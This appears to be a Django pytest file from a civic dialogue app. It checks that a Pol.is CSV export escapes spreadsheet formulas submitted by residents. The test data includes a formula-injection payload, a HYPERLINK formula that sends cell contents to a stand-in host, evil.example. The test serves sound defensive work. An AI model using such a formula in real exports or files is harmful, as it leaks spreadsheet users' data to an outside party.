"""The Pol.is CSV export neutralises spreadsheet formulas written by residents (issue 10, item 5)."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

import pytest

from brug.dialogue.models import Dialogue, Statement, StatementStatus

pytestmark = pytest.mark.django_db


def test_a_residents_formula_statement_is_exported_as_text(
    tenancy: Any, client_for: Any, dialogue: Dialogue
) -> None:
    Statement.objects.create(
        dialogue=dialogue,
        number=77,
        text='=HYPERLINK("http://evil.example/?d="&A1,"Klik hier")',
        status=StatementStatus.APPROVED,
    )
    Dialogue.objects.filter(pk=dialogue.pk).update(title="+31 wijk", question="@iedereen wat vindt u?")
    response = client_for(tenancy.reader).get("/o/gouda/dialogen/windmolens/polis-export.zip")
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        comments = list(csv.DictReader(io.StringIO(archive.read("comments.csv").decode())))
        summary = dict(csv.reader(io.StringIO(archive.read("summary.csv").decode())))
    bodies = {row["comment-id"]: row["comment-body"] for row in comments}
    assert bodies["77"] == '\'=HYPERLINK("http://evil.example/?d="&A1,"Klik hier")'
    assert not any(body.startswith(("=", "+", "-", "@")) for body in bodies.values())
    assert summary["topic"] == "'+31 wijk" and summary["conversation-description"].startswith("'@")
    # Numbers stay numbers (a vote of -1 is not text).
    assert all(row["moderated"] in {"1", "0", "-1"} for row in comments)
    # The outsider gets nothing.
    assert (
        client_for(tenancy.outsider).get("/o/gouda/dialogen/windmolens/polis-export.zip").status_code == 404
    )
